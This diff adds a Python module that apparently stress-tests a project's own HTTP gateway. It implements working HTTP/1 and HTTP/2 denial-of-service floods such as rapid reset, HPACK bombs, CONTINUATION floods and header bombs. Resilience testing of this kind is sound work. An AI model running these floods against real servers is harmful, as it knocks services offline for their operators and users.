@@ -1,0 +1,185 @@
+"""Attacks of those who send much."""
+
+import itertools
+import time
+
+import frames
+from frames import frame
+from wire import Flood, clock, connect, hold
+
+ASK = b"GET %s HTTP/1.1\r\nHost: a\r\n"
+
+
+def ask(path=b"/", fields=b""):
+    return ASK % path + fields + b"\r\n"
+
+
+# HTTP/1
+
+def pipelining(gateway, count, seconds):
+    block = ask() * 1_000
+    flood = Flood(gateway.port, lambda: itertools.repeat(block), count, seconds).run()
+    return f"GET after GET: {flood}, {flood.received / 1e6:.1f} MB received"
+
+
+def paced(made, seconds, block, most):
+    """Sends a block on each connection every few milliseconds, so that what came before can be answered, and reads
+    nothing. `block` makes one from its number.
+
+    Returns how many blocks were sent. The kernel takes many of them that the gateway has not read."""
+    sent, number, began = 0, 0, clock()
+    while made and clock() - began < seconds and sent < most:
+        data = block(number)
+        for one in list(made):
+            try:
+                if one.send(data) == len(data):
+                    sent += 1
+                    continue
+            except OSError:
+                pass
+            made.remove(one)  # It was held back, or closed.
+        number += 1
+        time.sleep(0.005)
+    time.sleep(max(0.0, began + seconds - clock()))
+    return sent
+
+
+def unread(gateway, count, opening=b""):
+    made = [connect(gateway.port, received=4096) for _ in range(count)]
+    for one in made:
+        one.sendall(opening)
+        one.setblocking(False)
+    return made
+
+
+def unread_answers(gateway, count, seconds):
+    """What it has not read of its answers must hold a client back."""
+    made, block = unread(gateway, count), ask(b"/small") * 10
+    sent = paced(list(made), seconds, lambda _: block, 40_000)
+    return f"{sent * 10:,} pipelined GETs of 8 KiB, and no answer is read"
+
+
+def header_bomb(gateway, count, seconds):
+    head = ASK % b"/"
+    upload = b"POST /sink HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
+    kinds = itertools.cycle([
+        (head, b"".join(b"f%d: x\r\n" % n for n in range(10_000))),  # many fields
+        (head, b"a:\r\n" * 20_000),  # many more, with nothing in them
+        (head + b"x: ", b"x" * 100_000),  # one huge value
+        (head, b"x" * 100_000),  # one huge name
+        (b"GET /", b"x" * 100_000),  # a huge target
+        (b"", b"x" * 100_000),  # a huge method
+        (b"", b"\r\n" * 50_000),  # nothing but empty lines
+        (upload + b"1", b";x" * 50_000),  # chunk extensions
+        (upload + b"0\r\n", b"x: y\r\n" * 20_000),  # trailers
+        (upload, b"0" * 100_000),  # digits of a chunk's size
+    ])
+
+    def script():
+        first, more = next(kinds)
+        return itertools.chain([first], itertools.repeat(more, 100))
+
+    return f"ten kinds of heads without end: {Flood(gateway.port, script, count, seconds).run()}"
+
+
+# HTTP/2
+
+def http2(gateway, count, seconds, words, script, **more):
+    opening = frames.PREFACE + frames.settings()
+    flood = Flood(gateway.port, lambda: itertools.chain([opening], script()), count, seconds, **more).run()
+    return f"{words}: {flood}"
+
+
+def repeated(gateway, count, seconds, words, block, first=b""):
+    return http2(gateway, count, seconds, words, lambda: itertools.chain([first], itertools.repeat(block)))
+
+
+def hpack_bomb(gateway, count, seconds):
+    """A field of 4,000 bytes goes into the table, and is then named by one byte each time."""
+    kept = frames.request(fields=[]) + frames.literal("x", "a" * 4_000, kept=True)
+    bomb = frames.request() + b"\xbe" * 16_000
+    blocks = [frame(frames.HEADERS, 4, 1, kept)]
+    blocks += [frame(frames.HEADERS, 5, stream, bomb) for stream in range(3, 203, 2)]
+    return http2(gateway, count, seconds, "64 MB from 16 kB", lambda: blocks)
+
+
+def rapid_reset(gateway, count, seconds):
+    cancel = b"\0\0\0\x08"
+    blocks = [
+        b"".join(frames.get(n) + frame(frames.RESET, 0, n, cancel) for n in range(first, first + 200, 2))
+        for first in range(1, 100_001, 200)]
+    return http2(gateway, count, seconds, "HEADERS and RST_STREAM", lambda: blocks)
+
+
+def continuation(gateway, count, seconds):
+    opened = frame(frames.HEADERS, 1, 1, frames.request())
+    kinds = itertools.cycle([b"", frames.literal("x", "y"), frames.literal("x", "y" * 16_000)])
+
+    def script():
+        return itertools.chain([opened], itertools.repeat(frame(frames.CONTINUATION, 0, 1, next(kinds)) * 100))
+
+    return http2(gateway, count, seconds, "HEADERS that CONTINUATION never ends", script)
+
+
+def settings_flood(gateway, count, seconds):
+    return repeated(gateway, count, seconds, "SETTINGS", frames.settings(initial_window=65_535) * 1_000)
+
+
+def table_flood(gateway, count, seconds):
+    """Each has the other side make its table anew."""
+    block = (frames.settings(table=0) + frames.settings(table=65_536)) * 500
+    return repeated(gateway, count, seconds, "SETTINGS of the table", block)
+
+
+def ping_flood(gateway, count, seconds):
+    return repeated(gateway, count, seconds, "PING", frame(frames.PING, 0, 0, b"12345678") * 1_000)
+
+
+def priority_flood(gateway, count, seconds):
+    return repeated(gateway, count, seconds, "PRIORITY", frame(frames.PRIORITY, 0, 3, b"\0\0\0\0\1") * 1_000)
+
+
+def window_flood(gateway, count, seconds):
+    """One byte of window at a time, for a large answer."""
+    first = frames.settings(initial_window=0) + frames.get(1, "/large")
+    return repeated(gateway, count, seconds, "WINDOW_UPDATE by 1", frames.window_update(1, 1) * 1_000, first)
+
+
+def empty_data(gateway, count, seconds):
+    opened = frame(frames.HEADERS, 4, 1, frames.request("POST", "/sink"))
+    return repeated(gateway, count, seconds, "empty DATA", frame(frames.DATA, 0, 1) * 1_000, opened)
+
+
+def many_streams(gateway, count, seconds):
+    """More than may be open at once, none of which ends."""
+    blocks = [frame(frames.HEADERS, 4, n, frames.request("POST", "/sink")) for n in range(1, 2_001, 2)]
+    return http2(gateway, count, seconds, "1,000 streams where 100 may be open", lambda: [b"".join(blocks)])
+
+
+def closed_windows(gateway, count, seconds):
+    """100 streams each, all of which ask for 1 MiB and take nothing of it."""
+    opening = frames.PREFACE + frames.settings(initial_window=0)
+    opening += b"".join(frames.get(n, "/large") for n in range(1, 201, 2))
+    made = [connect(gateway.port) for _ in range(count)]
+    for one in made:
+        one.sendall(opening)
+        one.setblocking(False)
+    closed, _ = hold(made, seconds)
+    return f"{count * 100:,} streams ask for 1 MiB through a window of 0; {closed:,} of {count:,} connections were closed"
+
+
+def unread_streams(gateway, count, seconds):
+    """The windows are as wide as can be, and nothing is read."""
+    opening = frames.PREFACE + frames.settings(initial_window=frames.WIDEST_WINDOW)
+    opening += frames.window_update(0, frames.WIDEST_WINDOW - 65_535)
+    made = unread(gateway, count, opening)
+    paths = itertools.cycle(["/", "/", "/", "/", "/medium"])
+    field = [("x", "x" * 1_000)]
+
+    def block(number):
+        numbers = range(number * 20 + 1, number * 20 + 21, 2)
+        heads = [frames.request("GET", next(paths), field) for _ in numbers]
+        return b"".join(frame(frames.HEADERS, 5, n, head) for n, head in zip(numbers, heads))
+
+    sent = paced(list(made), seconds, block, 40_000)
+    return f"{sent * 10:,} streams, and no answer is read"
